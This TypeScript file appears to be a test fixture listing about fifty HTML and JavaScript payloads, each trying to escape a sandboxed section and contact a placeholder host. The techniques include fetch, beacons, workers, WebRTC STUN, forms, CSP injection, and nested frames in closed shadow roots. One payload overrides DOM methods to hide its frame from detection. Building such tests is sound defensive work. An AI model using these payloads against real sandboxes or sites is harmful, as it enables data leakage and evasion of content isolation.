/** Where an attack wants to arrive; replaced by the address of a server that remembers what it is asked. */
export const EVIL = "EVIL";

/** Replaced by the port of a server for peer connections. */
export const EVIL_PORT = "EVIL_PORT";

const script = (code: string) => `<script>${code}</script>`;

const PEER = `{ const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${EVIL_PORT}" }] });
  peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); }`;

const quoted = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
const NESTED = `<iframe srcdoc="${quoted(script(PEER))}"></iframe>`;
const NESTED_TEXT = JSON.stringify(NESTED).replaceAll("</", String.raw`<\/`);
const CREATED = `const frame = document.createElement("iframe"); frame.srcdoc = ${JSON.stringify(script(PEER)).replaceAll("</", String.raw`<\/`)};`;

/** What a section can try to reach somebody, each by name. */
export const WAYS_OUT: [string, string][] = [
  ["its own address", script(`location = "${EVIL}"`)],
  ["its own address later", script(`setTimeout(() => location.replace("${EVIL}"), 20)`)],
  ["its own address as a script", script(`location = "javascript:fetch('${EVIL}')"`)],
  ["the page's address", script(`top.location = "${EVIL}"`)],
  ["the page's address by its parent", script(`parent.location.href = "${EVIL}"`)],
  ["a new window", script(`window.open("${EVIL}")`)],
  [
    "a link in a new window",
    `<a id="go" target="_blank" href="${EVIL}">x</a>${script(`document.getElementById("go").click()`)}`,
  ],
  [
    "a link in the page",
    `<a id="go" target="_top" href="${EVIL}">x</a>${script(`document.getElementById("go").click()`)}`,
  ],
  [
    "a link with a ping",
    `<a id="go" href="#" ping="${EVIL}">x</a>${script(`document.getElementById("go").click()`)}`,
  ],
  [
    "a download",
    `<a id="go" download href="${EVIL}">x</a>${script(`document.getElementById("go").click()`)}`,
  ],
  ["fetch", script(`fetch("${EVIL}", { mode: "no-cors" })`)],
  [
    "a fetch that stays alive",
    script(`fetch("${EVIL}", { keepalive: true, method: "POST", body: "x", mode: "no-cors" })`),
  ],
  [
    "fetch from a worker",
    script(`new Worker(URL.createObjectURL(new Blob(['fetch("${EVIL}")'])))`),
  ],
  [
    "a script that a worker imports",
    script(`new Worker(URL.createObjectURL(new Blob(['importScripts("${EVIL}")'])))`),
  ],
  ["a worker by address", script(`new Worker("${EVIL}")`)],
  [
    "a shared worker",
    script(`new SharedWorker(URL.createObjectURL(new Blob(['fetch("${EVIL}")'])))`),
  ],
  ["a service worker", script(`navigator.serviceWorker.register("${EVIL}")`)],
  ["XMLHttpRequest", script(`const x = new XMLHttpRequest(); x.open("GET", "${EVIL}"); x.send()`)],
  ["a beacon", script(`navigator.sendBeacon("${EVIL}", "x")`)],
  ["an event source", script(`new EventSource("${EVIL}")`)],
  ["a web socket", script(`new WebSocket("${EVIL}".replace("http", "ws"))`)],
  ["web transport", script(`new WebTransport("${EVIL}".replace("http:", "https:"))`)],
  ["a module", script(`import("${EVIL}")`)],
  ["a script by address", `<script src="${EVIL}"></script>`],
  [
    "an import map",
    `<script type="importmap">{ "imports": { "x": "${EVIL}" } }</script>${script(`import("x")`)}`,
  ],
  [
    "a speculation",
    `<script type="speculationrules">{ "prefetch": [{ "source": "list", "urls": ["${EVIL}"] }] }</script>`,
  ],
  ["a picture", `<img src="${EVIL}">`],
  ["a picture of a set", `<picture><source srcset="${EVIL}"><img srcset="${EVIL} 2x"></picture>`],
  ["a picture by script", script(`new Image().src = "${EVIL}"`)],
  ["a drawing's picture", `<svg><image href="${EVIL}"/><use href="${EVIL}#x"/></svg>`],
  ["a style sheet", `<link rel="stylesheet" href="${EVIL}">`],
  ["an imported style sheet", `<style>@import "${EVIL}";</style>`],
  ["a background", `<p style="background: url(${EVIL})">x</p>`],
  [
    "a font",
    `<style>@font-face { font-family: x; src: url(${EVIL}) } p { font-family: x }</style><p>x</p>`,
  ],
  ["a video", `<video src="${EVIL}" poster="${EVIL}" autoplay muted></video>`],
  ["a track", `<video controls><track default src="${EVIL}"></video>`],
  ["a frame", `<iframe src="${EVIL}"></iframe>`],
  ["an object", `<object data="${EVIL}"></object><embed src="${EVIL}">`],
  [
    "a prefetch",
    `<link rel="prefetch" href="${EVIL}"><link rel="preload" as="fetch" href="${EVIL}"><link rel="modulepreload" href="${EVIL}">`,
  ],
  [
    "an icon or a manifest",
    script(
      `document.head.insertAdjacentHTML("beforeend", '<link rel="icon" href="${EVIL}"><link rel="manifest" href="${EVIL}">')`,
    ),
  ],
  [
    "a refresh",
    script(
      `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0; url=${EVIL}">')`,
    ),
  ],
  [
    "a base address",
    script(
      `document.head.insertAdjacentHTML("afterbegin", '<base href="${EVIL}/">'); fetch("base")`,
    ),
  ],
  [
    "a looser policy",
    script(
      `document.head.insertAdjacentHTML("afterbegin", '<meta http-equiv="Content-Security-Policy" content="default-src *">'); fetch("${EVIL}")`,
    ),
  ],
  [
    "a form",
    `<form action="${EVIL}"><button>x</button></form>${script("document.forms[0].submit()")}`,
  ],
  [
    "a form in the page",
    `<form action="${EVIL}" target="_top"></form>${script("document.forms[0].requestSubmit()")}`,
  ],
  [
    "a report",
    script(
      `document.head.insertAdjacentHTML("afterbegin", '<meta http-equiv="Content-Security-Policy" content="script-src none; report-uri ${EVIL}">')`,
    ),
  ],
  ["a peer connection", script(PEER)],
  ["a peer connection in a frame", NESTED],
  [
    "a peer connection in a frame that is a script",
    `<iframe src="javascript:${quoted(PEER)}"></iframe>`,
  ],
  [
    "a peer connection in a frame that is made by script",
    script(`${CREATED} document.body.append(frame)`),
  ],
  [
    "a peer connection in a frame in a closed shadow",
    script(
      `const host = document.body.appendChild(document.createElement("div")); host.attachShadow({ mode: "closed", clonable: true }).innerHTML = ${NESTED_TEXT}; document.body.append(host.cloneNode(true))`,
    ),
  ],
  [
    "a peer connection in a shadow by markup",
    script(
      `const host = document.body.appendChild(document.createElement("div")); host.setHTMLUnsafe('<div><template shadowrootmode="closed">' + ${NESTED_TEXT} + "</template></div>")`,
    ),
  ],
  ["a peer connection in a page that is written", script(`document.write(${NESTED_TEXT})`)],
  [
    "a peer connection in a frame, with the page's functions changed",
    script(
      `Element.prototype.replaceWith = () => {}; Element.prototype.remove = () => {}; Document.prototype.querySelectorAll = () => []; Object.defineProperty(NodeList.prototype, "length", { get: () => 0 }); MutationObserver.prototype.observe = () => {}; ${CREATED} document.body.append(frame)`,
    ),
  ],
];
